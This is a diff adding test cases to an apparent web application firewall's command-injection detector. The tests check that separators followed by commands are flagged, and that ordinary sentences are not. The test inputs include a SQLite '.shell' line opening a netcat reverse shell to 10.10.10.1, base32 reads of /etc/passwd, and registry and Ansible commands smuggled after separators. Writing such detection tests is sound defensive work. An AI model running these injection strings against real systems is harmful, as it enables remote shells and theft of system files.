@@ -303,6 +303,16 @@ describe('a command behind a wrapper or written with + for its blanks', () => {
     for (const v of ['Time flies; time to sleep', 'x; time who', 'find . -exec curl e.example', 'nohup ifconfig']) expect(found(v), v).toEqual([])
   })
 
+  it("is SQLite's dot command written with blanks after its dot, and not a sentence's full stop", () => {
+    expect(found('";\n. shell nc 10.10.10.1 6666 -e sh\n')[0]?.explanation).toContain('"nc" through ".shell"')
+    for (const v of ['Great shoes.\n. shell colour is fine', 'x;. shell']) expect(found(v), v).toEqual([])
+  })
+
+  it('is a reader of encoded or compressed files, the registry editor or Ansible after a separator, not the words in a sentence', () => {
+    for (const v of [';cd /;cd etc;base32 passwd|base32 -d', ';regedit HKLM\\Software\\Microsoft', 'time; ansible all -m ping', 'time; ansible-config dump', ';zstdcat /var/log/app.zst']) expect(found(v).length, v).toBeGreaterThan(0)
+    for (const v of ['We use Ansible; it manages our servers and the shop runs fine', 'Base32 vs base64: which one?']) expect(found(v), v).toEqual([])
+  })
+
   it('reads + as a blank after a separator, not in a header nor in a URL query, and says so', () => {
     expect(found('x;c$@at+/etc/passwd')[0]?.explanation).toContain('with + read as a blank')
     expect(found('127.0.0.1+&&+ls /etc').map((f) => f.rule)).toEqual(['waf.rce.command-chain'])
